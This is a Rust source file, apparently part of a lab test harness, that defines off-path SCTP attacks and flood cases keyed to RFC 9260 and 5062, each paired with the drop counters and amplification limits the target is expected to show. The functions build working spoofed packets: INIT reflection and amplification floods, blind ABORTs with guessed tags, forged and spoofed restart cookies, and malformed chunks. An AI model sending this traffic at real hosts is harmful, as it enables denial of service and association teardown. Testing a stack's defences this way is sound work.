//! Against SCTP from off the path, and floods: RFC 9260 §12, 5062.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use anyhow::{Context as _, Result};
use etherparse::IpNumber;
use load::frames::Profile;
use wire::sctp::{
    DataHeader, InitHeader, PacketBuilder, Parameter, Ports, SackHeader, Tag, Tsn, chunk_type, ddp,
};

use super::{Attack, frames};
use crate::bed::{self, PREY_SCTP};
use crate::field::Field;
use crate::raw_sctp::RawSctp;
use crate::verdict::Rule;

const INIT: &[&str] =
    &["sctp_cookies_sent", "drop:net_rate_limited", "drop:net_overload", "drop:sctp_*"];
// The answer to an INIT for an association that is there is the association's.
const INIT_THERE: &[&str] = &["sctp_packets", "sctp_cookies_sent", "drop:net_*", "drop:sctp_*"];
// Only a few unmatched packets of a full burst are examined.
const CHECKSUM: &[&str] = &["drop:sctp_bad_checksum", "drop:net_overload"];
const TAGS: &[&str] = &["drop:sctp_bad_tag", "drop:sctp_out_of_the_blue"];
const BLUE: &[&str] = &["drop:sctp_out_of_the_blue", "drop:net_overload", "drop:sctp_*"];
const COOKIE: &[&str] = &["sctp_cookies_failed", "drop:sctp_*", "drop:net_overload"];

/// INITs in the names of many hosts. Each host gets one INIT ACK, 2.7 times as long as the INIT;
/// the INIT ACKs of a host are rate-limited.
const OF_MANY: Rule = Rule { explained_by: INIT, share: 0.9, most: &[], amplification: 3.0 };

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        rule: OF_MANY,
        ..frames("init-reflection", "RFC 5062 §2, 9260 §12.2.4.1", reflection, INIT)
    },
    frames("init-reflection-one", "RFC 5062 §2, 9260 §12.2.4.1", reflection_one, INIT),
    frames("init-blind", "RFC 9260 §5.2.2", blind_init, INIT_THERE),
    Attack {
        rule: OF_MANY,
        ..frames("init-with-addresses", "RFC 5062 §3, 9260 §12.2.4", addresses, INIT)
    },
    Attack { rule: OF_MANY, ..frames("init-unknown-parameters", "RFC 5062 §2", parameters, INIT) },
    frames("init-bundled", "RFC 9260 §6.10", bundled, BLUE),
    frames("abort-blind", "RFC 9260 §12.2.3", abort, TAGS),
    frames("data-sack-shutdown-blind", "RFC 9260 §8.5", chunks, TAGS),
    frames("cookie-forged", "RFC 9260 §12.2.4", forged_cookie, COOKIE),
    frames("cookie-restart-spoofed", "RFC 9260 §5.2.4, 5062 §4", restart, COOKIE),
    frames("out-of-the-blue", "RFC 9260 §8.4", blue, BLUE),
    frames("sctp-checksum", "RFC 9260 §6.8", checksum, CHECKSUM),
    frames("sctp-chunk-lengths", "RFC 9260 §6.10", lengths, &["drop:sctp_*", "drop:net_*"]),
];

/// Packets of a round.
const ROUND: usize = 256;

fn reflection(field: &mut Field<'_>) -> Result<()> {
    field.flood(Profile::InitFlood, "198.18.0.0/15", PREY_SCTP, ROUND)
}

fn reflection_one(field: &mut Field<'_>) -> Result<()> {
    field.flood(Profile::InitFlood, "198.18.0.1/32", PREY_SCTP, ROUND)
}

type Built = std::result::Result<(), wire::sctp::Full>;

/// Sends a packet with any two ends.
pub(super) fn packet(
    field: &mut Field<'_>,
    (from, to): (SocketAddr, SocketAddr),
    tag: u32,
    build: impl FnOnce(&mut PacketBuilder<'_>) -> Built,
) -> Result<()> {
    let mut room = [0; 1440];
    let ports = Ports { source: from.port(), destination: to.port() };
    let mut builder = PacketBuilder::new(&mut room, ports, Tag(tag));
    build(&mut builder)?;
    let len = builder.finish();
    field.attempts += 1;
    field.station.ip((from.ip(), to.ip()), IpNumber::SCTP, None, &room[..len])
}

/// Returns the two ends of the good association.
fn ends(field: &mut Field<'_>) -> Result<(SocketAddr, SocketAddr)> {
    field.station.receive();
    let (peer, target, _) = field.station.association.context("no packet of the association")?;
    Ok((peer, target))
}

/// Returns a random source and the listener under attack.
fn anybody(field: &mut Field<'_>) -> (SocketAddr, SocketAddr) {
    let from = Ipv4Addr::new(198, 18, field.random.u8(..), field.random.u8(1..255));
    ((from, field.random.u16(1024..)).into(), bed::target(PREY_SCTP))
}

pub(super) fn init_header(field: &mut Field<'_>) -> InitHeader {
    InitHeader {
        tag: Tag(field.random.u32(1..)),
        a_rwnd: 100_000,
        outbound_streams: 10,
        inbound_streams: 10,
        initial_tsn: Tsn(field.random.u32(..)),
    }
}

pub(super) const ADAPTATION: Parameter<'static> = Parameter::Adaptation(ddp::ADAPTATION_DDP);

fn blind_init(field: &mut Field<'_>) -> Result<()> {
    for _ in 0..ROUND {
        let (ends, header) = (ends(field)?, init_header(field));
        packet(field, ends, 0, |b| b.init(&header, &[ADAPTATION]))?;
    }
    Ok(())
}

/// Sends INITs of another host that list the good peer's address.
fn addresses(field: &mut Field<'_>) -> Result<()> {
    let peer = bed::PEER_V4.octets();
    for n in 0..ROUND {
        let (ends, header) = (anybody(field), init_header(field));
        let list = [ADAPTATION, Parameter::Ipv4(peer), Parameter::Ipv4([255; 4])];
        packet(field, ends, 0, |b| b.init(&header, &list[..2 + n % 2]))?;
    }
    Ok(())
}

/// Sends INITs with unknown parameters, which the answer would have to repeat.
fn parameters(field: &mut Field<'_>) -> Result<()> {
    // RFC 9260 §3.2.1: the highest bits say "skip and report".
    let unknown = [0xc1, 0x11, 0, 4];
    let list = [Parameter::Unknown { bytes: &unknown, skip: true, report: true }; 300];
    for n in 0..ROUND {
        let (ends, header) = (anybody(field), init_header(field));
        let mut with = vec![ADAPTATION];
        with.extend_from_slice(&list[..10 + n % 290]);
        packet(field, ends, 0, |b| b.init(&header, &with))?;
    }
    Ok(())
}

/// Sends INITs bundled with other chunks, which the RFC forbids.
fn bundled(field: &mut Field<'_>) -> Result<()> {
    for n in 0..ROUND {
        let (ends, header) = (anybody(field), init_header(field));
        packet(field, ends, 0, |b| {
            if n % 2 == 0 {
                b.heartbeat(&[1; 8])?;
            }
            b.init(&header, &[ADAPTATION])?;
            b.init(&header, &[ADAPTATION])
        })?;
    }
    Ok(())
}

/// Returns a random tag, which is practically never the association's.
fn guess(field: &mut Field<'_>) -> u32 {
    field.random.u32(..)
}

fn abort(field: &mut Field<'_>) -> Result<()> {
    for n in 0..ROUND {
        let (ends, tag) = (ends(field)?, guess(field));
        // With the T bit, the tag must be that of the other direction (RFC 9260 §8.5.1 B).
        packet(field, ends, if n % 8 == 0 { 0 } else { tag }, |b| b.abort(n % 2 == 0, &[]))?;
    }
    Ok(())
}

fn chunks(field: &mut Field<'_>) -> Result<()> {
    for n in 0..ROUND {
        let (ends, tag, tsn) = (ends(field)?, guess(field), Tsn(field.random.u32(..)));
        packet(field, ends, tag, |b| match n % 7 {
            0 => {
                let header = DataHeader {
                    tsn,
                    ppid: ddp::PPID_SEGMENT,
                    unordered: true,
                    begin: true,
                    end: true,
                    ..DataHeader::default()
                };
                b.data_buffer()[..64].fill(0x5a);
                b.push_data(&header, 64)
            }
            1 => b.sack(SackHeader { cumulative: tsn, a_rwnd: 0 }, &[], &[]),
            2 => b.shutdown(tsn),
            3 => b.shutdown_ack(),
            4 => b.shutdown_complete(false),
            5 => b.heartbeat(&[7; 32]),
            _ => b.error(&[]),
        })?;
    }
    Ok(())
}

/// Sends invalid cookies, in the names of the good peer and of other hosts.
fn forged_cookie(field: &mut Field<'_>) -> Result<()> {
    for n in 0..ROUND {
        let ends = if n % 2 == 0 { ends(field)? } else { anybody(field) };
        let (tag, byte) = (guess(field), field.random.u8(..));
        packet(field, ends, tag, |b| b.cookie_echo(&[byte; 64][..8 * (1 + n % 8)]))?;
    }
    Ok(())
}

/// Sends the attacker's valid cookie in the good peer's name, which would restart the association.
fn restart(field: &mut Field<'_>) -> Result<()> {
    let (peer, target) = ends(field)?;
    let mut own = RawSctp::new(field, [10, 77, 0, 80].into(), target);
    let cookie = match own.cookie(field) {
        Ok(cookie) => cookie,
        // The rate limit of INIT ACKs may be exhausted.
        Err(_) => return forged_cookie(field),
    };
    for n in 0..32 {
        // Source: the peer's address, with its port or the attacker's.
        let from =
            SocketAddr::new(peer.ip(), if n % 2 == 0 { peer.port() } else { own.local.port() });
        let tag = if n % 4 < 2 { own.tag } else { own.own_tag };
        packet(field, (from, target), tag, |b| b.cookie_echo(&cookie))?;
    }
    Ok(())
}

fn blue(field: &mut Field<'_>) -> Result<()> {
    for n in 0..ROUND {
        let (ends, tag, tsn) = (anybody(field), guess(field), Tsn(field.random.u32(..)));
        packet(field, ends, tag, |b| match n % 6 {
            0 => b.shutdown_ack(),
            1 => b.cookie_ack(),
            2 => b.sack(SackHeader { cumulative: tsn, a_rwnd: 1 }, &[], &[]),
            3 => b.abort(false, &[]),
            4 => b.shutdown_complete(true),
            _ => b.heartbeat(&[7; 400]),
        })?;
    }
    Ok(())
}

fn checksum(field: &mut Field<'_>) -> Result<()> {
    for n in 0..ROUND {
        let (from, to) = if n % 2 == 0 { ends(field)? } else { anybody(field) };
        let own = RawSctp {
            local: from,
            remote: to,
            own_tag: guess(field),
            tag: guess(field),
            tsn: 1,
            received: 0,
        };
        let mut bytes =
            if n % 4 < 2 { own.init()? } else { own.packet(own.tag, |b| b.abort(false, &[]))? };
        bytes[8 + n % 4] ^= 1 << field.random.u32(..8);
        field.attempts += 1;
        let ends: (IpAddr, IpAddr) = (from.ip(), to.ip());
        field.station.ip(ends, IpNumber::SCTP, None, &bytes)?;
    }
    Ok(())
}

/// Sends chunks with lengths beyond the packet, or below a chunk header's.
fn lengths(field: &mut Field<'_>) -> Result<()> {
    for n in 0..ROUND {
        let (from, to) = if n % 2 == 0 { ends(field)? } else { anybody(field) };
        let mut bytes = Vec::new();
        bytes.extend(from.port().to_be_bytes());
        bytes.extend(to.port().to_be_bytes());
        bytes.extend(guess(field).to_be_bytes());
        bytes.extend([0; 4]);
        let kind = [chunk_type::INIT, chunk_type::DATA, chunk_type::SACK, 0xff, 0x7f][n % 5];
        let len: u16 = [0, 3, 4, 0xffff, 17][n / 5 % 5];
        bytes.extend([kind, 0]);
        bytes.extend(len.to_be_bytes());
        bytes.resize(12 + 4 * (1 + n % 9), 0);
        let sum = wire::sctp::checksum(&bytes);
        bytes[8..12].copy_from_slice(&sum);
        field.attempts += 1;
        field.station.ip((from.ip(), to.ip()), IpNumber::SCTP, None, &bytes)?;
    }
    Ok(())
}
